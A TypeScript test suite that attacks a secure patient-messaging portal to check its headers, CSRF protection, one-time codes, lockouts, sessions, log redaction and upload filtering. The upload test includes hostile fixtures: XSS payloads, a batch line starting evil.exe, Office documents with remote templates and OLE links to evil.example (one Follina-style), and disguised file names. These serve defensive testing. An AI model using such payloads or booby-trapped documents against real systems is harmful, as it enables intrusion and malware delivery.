import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { after, before, test } from 'node:test';
import { simpleParser } from 'mailparser';
import type { InitResult } from '../../src/identity/index.ts';
import { SYSTEM_ORG_ID } from '../../src/audit/index.ts';
import { createLogger } from '../../src/log/index.ts';
import { startTestServer, type TestServer } from '../support/app.ts';
import { describeEachDb } from '../support/db.ts';
import { type MailWorld, startMailWorld } from '../support/mail-world.ts';
import { docx, MAIN_TYPES, xlsx, zip } from '../support/office.ts';
import { settle, verifiedDomain } from '../support/sending.ts';

// The portal under attack, over plain HTTP: forged and tampered links, forms from another site,
// guessed, reused and expired codes, a session carried to another recipient, active content in
// downloads and uploads, and tokens in logs. Each gets a clear page and gives nothing away.

const MARKER = 'PHI-GUARD-6610';

/** A browser's cookie jar, by cookie name (paths are respected by the caller's choice of URL). */
class Visitor {
  cookies = new Map<string, string>();
  setCookies: string[] = [];
  private readonly base: string;
  constructor(base: string) {
    this.base = base;
  }

  async fetch(path: string, init: RequestInit & { form?: Record<string, string> } = {}) {
    const headers = new Headers(init.headers);
    if (this.cookies.size > 0)
      headers.set('cookie', [...this.cookies].map(([k, v]) => `${k}=${v}`).join('; '));
    let body = init.body;
    if (init.form) {
      headers.set('content-type', 'application/x-www-form-urlencoded');
      body = new URLSearchParams(init.form).toString();
    }
    const res = await fetch(`${this.base}${path}`, { ...init, headers, body, redirect: 'manual' });
    for (const cookie of res.headers.getSetCookie()) {
      this.setCookies.push(cookie);
      const [pair] = cookie.split(';');
      const [name, value] = pair!.split('=');
      if (/Expires=Thu, 01 Jan 1970/i.test(cookie) || value === '') this.cookies.delete(name!);
      else this.cookies.set(name!, value!);
    }
    return { status: res.status, headers: res.headers, text: await res.text() };
  }
}

const csrfOf = (page: string) => /name="csrf" value="([^"]+)"/.exec(page)?.[1] ?? '';

describeEachDb('secure portal under attack', (suite) => {
  let world: MailWorld;
  let server: TestServer;
  let org: InitResult;
  const logLines: string[] = [];
  const api = (method: string, path: string, body?: unknown) =>
    server.request(method, path, { token: org.api_key, body });

  before(async () => {
    world = await startMailWorld();
    world.forbidInClear(MARKER);
    const log = createLogger(
      'info',
      new Writable({
        write(chunk, _encoding, done) {
          logLines.push(String(chunk));
          done();
        },
      }),
    );
    server = await startTestServer(
      suite.testDb,
      {
        ...world.env(),
        SEALPOST_PUBLIC_URL: 'https://portal.sealpost.test',
        SEALPOST_PORTAL_UPLOAD_MAX_BYTES: '20000',
        // The concurrent guesses below come from one address: what they test is the portal's own
        // count, not the per-address limit in front of it.
        SEALPOST_RATE_LIMIT_PER_ADDRESS: '100000',
      },
      { roles: ['api', 'worker'], log },
    );
    org = await server.createOrg('Guarded Clinic');
    await verifiedDomain(server, world.dns, org.api_key, 'clinic.test');
    world.addDomain('clinic.test', 'tls'); // where replies to the sender arrive
  });
  after(async () => {
    await server?.close();
    await world?.close();
  });

  async function portalMessage(address: string, extra: Record<string, unknown> = {}) {
    const before = world.receiver('notls').messages.length;
    const sent = await api('POST', '/v1/messages', {
      from: 'care@clinic.test',
      to: [address],
      subject: `Results ${MARKER}`,
      text: `Your results ${MARKER}`,
      attachments: [
        {
          filename: 'report.html',
          content_type: 'text/html',
          content: Buffer.from('<script>alert(1)</script>').toString('base64'),
        },
      ],
      ...extra,
    });
    assert.equal(sent.status, 202, sent.text);
    const [recipient] = await settle<{ id: string; state: string }>(server, org.api_key, sent.body.id);
    assert.equal(recipient!.state, 'portal_notified');
    const notice = await simpleParser((await world.waitForMessages('notls', before + 1))[before]!.raw);
    const token = /https:\/\/portal\.sealpost\.test\/secure\/([A-Za-z0-9_-]{43})/.exec(
      notice.text ?? '',
    )![1]!;
    return { messageId: sent.body.id as string, recipientId: recipient!.id, token, path: `/secure/${token}` };
  }

  /** Proves who the visitor is with the code mailed to them; returns the visitor signed in. */
  async function signIn(path: string, address: string) {
    const visitor = new Visitor(server.url);
    const start = await visitor.fetch(path);
    const mailed = world.receiver('notls').messages.length;
    const requested = await visitor.fetch(`${path}/code`, {
      method: 'POST',
      form: { csrf: csrfOf(start.text) },
    });
    assert.equal(requested.status, 303);
    const mail = await simpleParser((await world.waitForMessages('notls', mailed + 1))[mailed]!.raw);
    assert.equal(mail.to && 'value' in mail.to ? mail.to.value[0]!.address : '', address);
    const code = /\b(\d{6})\b/.exec(mail.text ?? '')![1]!;
    const verified = await visitor.fetch(`${path}/verify`, {
      method: 'POST',
      form: { csrf: csrfOf(start.text), code },
    });
    assert.equal(verified.status, 303, verified.text);
    return { visitor, code };
  }

  test('strict headers and cookies on every page', async () => {
    const { path } = await portalMessage('h@notls.test');
    const visitor = new Visitor(server.url);
    const page = await visitor.fetch(path);
    assert.equal(page.status, 200);
    const csp = page.headers.get('content-security-policy')!;
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /form-action 'self'/);
    assert.match(csp, /frame-ancestors 'none'/);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|\*/);
    assert.equal(page.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(page.headers.get('referrer-policy'), 'no-referrer');
    assert.equal(page.headers.get('cache-control'), 'no-store');
    const pre = visitor.setCookies.find((c) => c.startsWith('sp_pre='))!;
    for (const flag of ['HttpOnly', 'SameSite=Strict', 'Secure', `Path=${path}`])
      assert.ok(pre.includes(flag), `${flag} in ${pre}`);
    assert.doesNotMatch(page.text, /<script/i);

    const signedIn = await signIn(path, 'h@notls.test');
    const session = signedIn.visitor.setCookies.find((c) => c.startsWith('sp_session='))!;
    for (const flag of ['HttpOnly', 'SameSite=Strict', 'Secure', `Path=${path}`])
      assert.ok(session.includes(flag), `${flag} in ${session}`);
    const message = await signedIn.visitor.fetch(path);
    assert.match(message.text, new RegExp(`Results ${MARKER}`));
    assert.doesNotMatch(
      /<title>([^<]*)<\/title>/.exec(message.text)![1]!,
      new RegExp(MARKER),
      'no PHI in the title',
    );

    // An HTML attachment is handed over as bytes to save, never as a page to render.
    const download = await signedIn.visitor.fetch(`${path}/attachments/0`);
    assert.equal(download.status, 200);
    assert.equal(download.headers.get('content-type'), 'application/octet-stream');
    assert.match(download.headers.get('content-disposition')!, /^attachment; filename="report.html"/);
    assert.equal(download.headers.get('x-content-type-options'), 'nosniff');
    assert.match(download.headers.get('content-security-policy')!, /sandbox/);
  });

  test('forged, tampered and truncated links get a clear page and a tallied audit event, nothing else', async () => {
    const { token } = await portalMessage('f@notls.test');
    const tampered = token.slice(0, -1) + (token.endsWith('A') ? 'B' : 'A');
    const visitor = new Visitor(server.url);
    for (const bad of [tampered, token.slice(0, 20), 'x'.repeat(43), `${token}x`]) {
      const res = await visitor.fetch(`/secure/${bad}`);
      assert.equal(res.status, 404, bad);
      assert.match(res.text, /This link does not work/);
      assert.doesNotMatch(res.text, /Guarded Clinic|clinic\.test/, 'a bad link reveals no organisation');
    }
    // Counted, and chained as one event with the count when the window ends (test/http/rate-limits.test.ts).
    await server.app.flushAudit();
    const { rows } = await server.app.db.query<{ n: number }>(
      `SELECT sum(refusals)::int AS n FROM audit_tallies WHERE org_id = $1 AND event->>'action' = 'portal.link_invalid'`,
      [SYSTEM_ORG_ID],
    );
    assert.ok(rows[0]!.n >= 4);
  });

  test('forms from another site, or without their token, change nothing', async () => {
    const { path, recipientId } = await portalMessage('c@notls.test');
    const visitor = new Visitor(server.url);
    const page = await visitor.fetch(path);
    const csrf = csrfOf(page.text);
    const other = new Visitor(server.url);
    const otherCsrf = csrfOf((await other.fetch(path)).text);
    const attempts: { form: Record<string, string>; headers?: Record<string, string> }[] = [
      { form: {} },
      { form: { csrf: 'forged' } },
      { form: { csrf: otherCsrf } },
      { form: { csrf }, headers: { 'sec-fetch-site': 'cross-site' } },
    ];
    for (const attempt of attempts) {
      const res = await visitor.fetch(`${path}/code`, { method: 'POST', ...attempt });
      assert.equal(res.status, 403, JSON.stringify(attempt));
      assert.match(res.text, /This form has expired/);
    }
    const { rows } = await server.app.db.query(
      'SELECT 1 FROM portal_codes WHERE org_id = $1 AND recipient_id = $2',
      [org.org_id, recipientId],
    );
    assert.equal(rows.length, 0, 'no code was sent');
  });

  test('codes: paced, single use, a few tries each, and they expire', async () => {
    const { path, recipientId } = await portalMessage('k@notls.test');
    const { code } = await signIn(path, 'k@notls.test');

    // The used code opens nothing for someone else.
    const thief = new Visitor(server.url);
    const thiefCsrf = csrfOf((await thief.fetch(path)).text);
    const reused = await thief.fetch(`${path}/verify`, { method: 'POST', form: { csrf: thiefCsrf, code } });
    assert.equal(reused.status, 422);
    assert.match(reused.text, /expired or was already used/);

    // A second code at once is refused; after the pause, one comes, and five wrong tries spend it.
    const first = await thief.fetch(`${path}/code`, { method: 'POST', form: { csrf: thiefCsrf } });
    assert.match(first.headers.get('location')!, /sent=wait/);
    await server.app.db.query(
      `UPDATE portal_codes SET created_at = created_at - interval '2 minutes' WHERE org_id = $1 AND recipient_id = $2`,
      [org.org_id, recipientId],
    );
    const mailed = world.receiver('notls').messages.length;
    const second = await thief.fetch(`${path}/code`, { method: 'POST', form: { csrf: thiefCsrf } });
    assert.match(second.headers.get('location')!, /sent=sent/);
    const mail = await simpleParser((await world.waitForMessages('notls', mailed + 1))[mailed]!.raw);
    const fresh = /\b(\d{6})\b/.exec(mail.text ?? '')![1]!;
    const wrong = fresh === '000000' ? '111111' : '000000';
    for (let i = 0; i < 5; i++) {
      const res = await thief.fetch(`${path}/verify`, {
        method: 'POST',
        form: { csrf: thiefCsrf, code: wrong },
      });
      assert.equal(res.status, 422);
    }
    const spent = await thief.fetch(`${path}/verify`, {
      method: 'POST',
      form: { csrf: thiefCsrf, code: fresh },
    });
    assert.equal(spent.status, 422, 'the right code no longer works after five wrong tries');

    // An expired code does not open the message either.
    await server.app.db.query(
      `UPDATE portal_codes SET created_at = created_at - interval '2 minutes', attempts = 0 WHERE org_id = $1 AND recipient_id = $2`,
      [org.org_id, recipientId],
    );
    await server.app.db.query(
      `UPDATE portal_codes SET expires_at = now() - interval '1 second' WHERE org_id = $1 AND recipient_id = $2`,
      [org.org_id, recipientId],
    );
    const expired = await thief.fetch(`${path}/verify`, {
      method: 'POST',
      form: { csrf: thiefCsrf, code: fresh },
    });
    assert.equal(expired.status, 422);
    assert.doesNotMatch(expired.text, new RegExp(MARKER));
  });

  test('guesses sent at once are judged in turn: five per code, and the tenth failure locks', async () => {
    const { path, recipientId } = await portalMessage('g@notls.test');
    const visitor = new Visitor(server.url);
    const csrf = csrfOf((await visitor.fetch(path)).text);
    const newCode = async () => {
      const mailed = world.receiver('notls').messages.length;
      const asked = await visitor.fetch(`${path}/code`, { method: 'POST', form: { csrf } });
      assert.match(asked.headers.get('location')!, /sent=sent/);
      const mail = await simpleParser((await world.waitForMessages('notls', mailed + 1))[mailed]!.raw);
      return /\b(\d{6})\b/.exec(mail.text ?? '')![1]!;
    };
    const guess = (code: string) => visitor.fetch(`${path}/verify`, { method: 'POST', form: { csrf, code } });
    /** 150 wrong guesses at once; the number of them told "not right" (judged and not locking). */
    const burst = async (right: string) => {
      const wrong = right === '000000' ? '111111' : '000000';
      const answers = await Promise.all(Array.from({ length: 150 }, () => guess(wrong)));
      return answers.filter((a) => a.text.includes('That code is not right')).length;
    };
    const state = async () =>
      (
        await server.app.db.query<{ failures: number; locked: boolean; tries: number[] }>(
          `SELECT d.failed_attempts AS failures, d.locked_at IS NOT NULL AS locked,
             (SELECT array_agg(attempts ORDER BY created_at) FROM portal_codes c
              WHERE c.org_id = d.org_id AND c.recipient_id = d.recipient_id) AS tries
           FROM portal_deliveries d WHERE d.org_id = $1 AND d.recipient_id = $2`,
          [org.org_id, recipientId],
        )
      ).rows[0]!;

    // Against a fresh code: five are judged, the rest find it spent.
    const first = await newCode();
    assert.equal(await burst(first), 5);
    assert.deepEqual(await state(), { failures: 5, locked: false, tries: [5] });
    assert.match((await guess(first)).text, /expired or was already used/);

    // Against a second code: five more, the fifth of them (the tenth failure) locks, and nothing
    // is judged after it.
    await server.app.db.query(
      `UPDATE portal_codes SET created_at = created_at - interval '2 minutes' WHERE org_id = $1 AND recipient_id = $2`,
      [org.org_id, recipientId],
    );
    const second = await newCode();
    assert.equal(await burst(second), 4);
    assert.deepEqual(await state(), { failures: 10, locked: true, tries: [5, 5] });
    const late = await guess(second);
    assert.equal(late.status, 423);
    assert.doesNotMatch(late.text, new RegExp(MARKER));

    // Whoever holds the link can ask again and again: the refusals are tallied, not appended.
    for (let i = 0; i < 30; i++) assert.equal((await visitor.fetch(path)).status, 423);
    await server.app.flushAudit({ openWindows: true });
    const { rows: refused } = await server.app.db.query<{ details: Record<string, unknown> }>(
      `SELECT details FROM audit_events
       WHERE org_id = $1 AND action = 'portal.access_refused' AND details->>'recipient_id' = $2`,
      [org.org_id, recipientId],
    );
    assert.equal(refused.length, 1, 'one event for every refusal from this source');
    assert.equal(refused[0]!.details.reason, 'locked');
    assert.ok(Number(refused[0]!.details.count) >= 31, String(refused[0]!.details.count));
  });

  test("a session opens only its own recipient's message, and ends when idle", async () => {
    const one = await portalMessage('one@notls.test');
    const two = await portalMessage('two@notls.test');
    const { visitor } = await signIn(one.path, 'one@notls.test');
    const carried = await visitor.fetch(two.path);
    assert.equal(carried.status, 200);
    assert.doesNotMatch(carried.text, new RegExp(MARKER), "one's session shows nothing of two's message");
    assert.match(carried.text, /Email me a code/);
    const download = await visitor.fetch(`${two.path}/attachments/0`);
    assert.equal(download.status, 303, 'no download without a session for that recipient');

    await server.app.db.query(
      `UPDATE portal_sessions SET last_seen_at = now() - interval '16 minutes' WHERE org_id = $1 AND recipient_id = $2`,
      [org.org_id, one.recipientId],
    );
    const idle = await visitor.fetch(one.path);
    assert.doesNotMatch(idle.text, new RegExp(MARKER));
    assert.match(idle.text, /Your session ended/);
  });

  test('uploads: only the types policy allows, judged from their bytes, under a name that says the same', async () => {
    const { path, messageId } = await portalMessage('u@notls.test');
    const { visitor } = await signIn(path, 'u@notls.test');
    const csrf = csrfOf((await visitor.fetch(path)).text);
    const post = (files: [name: string, content: string | Buffer, type?: string][]) => {
      const form = new FormData();
      form.append('csrf', csrf);
      form.append('text', 'see attached');
      for (const [name, content, type = 'application/octet-stream'] of files)
        form.append('files', new Blob([content], { type }), name);
      return visitor.fetch(`${path}/reply`, { method: 'POST', body: form });
    };
    const replies = async () =>
      (
        await server.app.db.query('SELECT 1 FROM messages WHERE org_id = $1 AND reply_of = $2', [
          org.org_id,
          messageId,
        ])
      ).rows.length;

    const page = '<html><body><script>alert(1)</script></body></html>';
    const batch = '@echo off\r\nstart evil.exe\r\n';
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n');
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
    const jpeg = Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.alloc(32, 1)]);
    const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const external = (type: string, target: string) =>
      docx({ documentRels: [{ type, target, external: true }] });
    // The reference hides "External" from a byte search; an XML parser reads it all the same.
    const hiddenTemplate = docx({
      parts: {
        'word/_rels/settings.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#x45;xternal"/></Relationships>`,
      },
    });
    const name = /a file name cannot hold/;
    const type = /only these types of file are accepted: \.pdf, \.jpg, \.jpeg, \.png/;
    const mismatch = /what it holds is not what the end of its name says/;
    const refused: [string, string | Buffer, RegExp, string?][] = [
      // Names Windows stores as another name, or not as a file at all.
      ['evil.bat.', batch, mismatch],
      ['evil.cmd ', batch, mismatch],
      ['evil.ps1::$DATA', 'Start-Process evil.exe', name],
      ['CON.txt', 'hello', name],
      ['invoice\u202efdp.exe', pdf, name],
      // Macros, ActiveX, OLE objects and remote templates, as .docm, .xlsm, or dressed as .docx.
      [
        'form.docm',
        docx({ main: MAIN_TYPES.docm, parts: { 'word/vbaProject.bin': Buffer.alloc(64, 1) } }),
        type,
      ],
      [
        'sums.xlsm',
        xlsx({ main: MAIN_TYPES.xlsm, parts: { 'xl/vbaProject.bin': Buffer.alloc(64, 1) } }),
        type,
      ],
      ['form.docx', docx({ parts: { 'word/vbaProject.bin': Buffer.alloc(64, 1) } }), type],
      ['form.docx', docx({ parts: { 'word/activeX/activeX1.xml': '<ax:ocx/>' } }), type],
      ['form.docx', docx({ parts: { 'word/embeddings/oleObject1.bin': Buffer.alloc(64, 1) } }), type],
      ['form.docx', external(`${REL}/oleObject`, 'https://evil.example/follina.html!'), type],
      ['form.docx', external(`${REL}/attachedTemplate`, 'https://evil.example/t.dotm'), type],
      ['form.docx', hiddenTemplate, type],
      ['form.docx', zip({ a: 'b' }, { prefix: docx() }), type],
      // Types patients do not send.
      [
        'notes.one',
        Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64)]),
        type,
      ],
      ['help.chm', Buffer.concat([Buffer.from('ITSF'), Buffer.from([3, 0, 0, 0]), Buffer.alloc(88)]), type],
      ['disk.vhd', Buffer.concat([Buffer.alloc(512), Buffer.from('conectix'), Buffer.alloc(64)]), type],
      ['site.url', '[InternetShortcut]\r\nURL=file://evil.example/share/evil.exe\r\n', mismatch],
      ['page.mht', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`, type],
      ['records.zip', zip({ 'evil.exe': 'MZ' }), type],
      ['setup.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]), type],
      ['card.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', type],
      // Markup as text: declared as HTML, in UTF-16 (with and without a BOM), after padding.
      ['page.txt', page, type, 'text/html'],
      ['wide.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page, 'utf16le')]), type],
      ['wide.txt', Buffer.from(page, 'utf16le'), type],
      ['padded.txt', `${'Dose log, all well. '.repeat(60)}\n${page}`, type],
      ['photo.jpg', png, mismatch],
    ];
    for (const [filename, content, reason, declared] of refused) {
      const res = await post([[filename, content, declared]]);
      assert.equal(res.status, 415, filename);
      assert.match(res.text, reason, filename);
    }
    assert.match((await post([['big.pdf', Buffer.alloc(25_000, 1)]])).text, /larger than/);
    // One file refused refuses the reply: nothing of it is sent.
    assert.equal(
      (
        await post([
          ['scan.pdf', pdf],
          ['page.txt', page],
        ])
      ).status,
      415,
    );
    assert.equal(await replies(), 0, 'no reply was submitted');
    await server.app.flushAudit();
    const audited = await server.app.db.query<{ reason: string; details: string }>(
      `SELECT details->>'reason' AS reason, details::text FROM audit_events
       WHERE org_id = $1 AND action = 'portal.upload_refused'`,
      [org.org_id],
    );
    assert.deepEqual([...new Set(audited.rows.map((r) => r.reason))].sort(), ['mismatch', 'name', 'type']);
    assert.ok(!audited.rows.some((r) => r.details.includes('evil')), 'no file name on the record');

    // In the reader's language.
    await visitor.fetch(`${path}?lang=es`);
    assert.match((await post([['page.txt', page]])).text, /solo se aceptan estos tipos de archivo/);
    await visitor.fetch(`${path}?lang=en`);

    // What patients send goes through, named as written (less what Windows drops), typed by its bytes.
    const before = world.receiver('tls').messages.length;
    const sent = await post([
      ['scan.pdf', pdf, 'text/html'],
      ['photo.JPG. ', jpeg],
      ['notes.txt', 'Café: 5 mg ≤ 8:00 <dana@example.org>\n'],
      ['letter.docx', docx({ parts: { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': xlsx() } })],
      ['doses.xlsx', xlsx()],
    ]);
    assert.equal(sent.status, 303, sent.text);
    const reply = await simpleParser((await world.waitForMessages('tls', before + 1))[before]!.raw);
    assert.deepEqual(
      reply.attachments.map((a) => [a.filename, a.contentType]),
      [
        ['scan.pdf', 'application/pdf'],
        ['photo.JPG', 'image/jpeg'],
        ['notes.txt', 'text/plain'],
        ['letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
        ['doses.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
      ],
    );

    const noCsrf = new FormData();
    noCsrf.append('text', 'hello');
    const forged = await visitor.fetch(`${path}/reply`, { method: 'POST', body: noCsrf });
    assert.equal(forged.status, 403);
    assert.equal(await replies(), 1);
  });

  test('the types a recipient may attach are organisation policy', async () => {
    const policy = await api('GET', '/v1/policies/secureline');
    assert.deepEqual(policy.body.portal_upload_types, [
      'pdf',
      'jpeg',
      'png',
      'gif',
      'webp',
      'heic',
      'tiff',
      'text',
      'docx',
      'xlsx',
      'pptx',
    ]);
    for (const bad of [['exe'], ['pdf', 'pdf'], [null]])
      assert.equal((await api('PATCH', '/v1/policies/secureline', { portal_upload_types: bad })).status, 400);
    try {
      const narrowed = await api('PATCH', '/v1/policies/secureline', { portal_upload_types: ['pdf'] });
      assert.equal(narrowed.status, 200, narrowed.text);
      const { path } = await portalMessage('p@notls.test');
      const { visitor } = await signIn(path, 'p@notls.test');
      const message = await visitor.fetch(path);
      assert.match(message.text, /of these types: \.pdf\./);
      assert.match(message.text, /accept="\.pdf"/);
      const form = new FormData();
      form.append('csrf', csrfOf(message.text));
      form.append('text', 'see attached');
      form.append('files', new Blob([Buffer.from('a note')]), 'note.txt');
      const res = await visitor.fetch(`${path}/reply`, { method: 'POST', body: form });
      assert.equal(res.status, 415);
      assert.match(res.text, /note\.txt cannot be attached: only these types of file are accepted: \.pdf\./);

      assert.equal((await api('PATCH', '/v1/policies/secureline', { portal_upload_types: [] })).status, 200);
      assert.doesNotMatch((await visitor.fetch(path)).text, /type="file"/);
    } finally {
      await api('PATCH', '/v1/policies/secureline', { portal_upload_types: policy.body.portal_upload_types });
    }
  });

  test('replies closed by the sender: no form, and a forged post sends nothing', async () => {
    const { path, messageId } = await portalMessage('r@notls.test', { portal: { replies: 'none' } });
    const { visitor } = await signIn(path, 'r@notls.test');
    const page = await visitor.fetch(path);
    assert.match(page.text, /does not accept replies/);
    assert.doesNotMatch(page.text, /Send secure reply/);
    const form = new FormData();
    form.append('csrf', csrfOf(page.text));
    form.append('text', 'hello');
    const res = await visitor.fetch(`${path}/reply`, { method: 'POST', body: form });
    assert.equal(res.status, 403);
    const { rows } = await server.app.db.query('SELECT 1 FROM messages WHERE org_id = $1 AND reply_of = $2', [
      org.org_id,
      messageId,
    ]);
    assert.equal(rows.length, 0);
  });

  test('no link token and no PHI reaches the log', async () => {
    const { token } = await portalMessage('l@notls.test');
    await new Visitor(server.url).fetch(`/secure/${token}`);
    const all = logLines.join('');
    assert.ok(all.includes('/secure/[token]'), 'portal requests are logged, by a redacted path');
    assert.ok(!all.includes(token), 'the token never appears');
    assert.ok(!all.includes(MARKER) && !all.includes('l@notls.test'));
  });
});
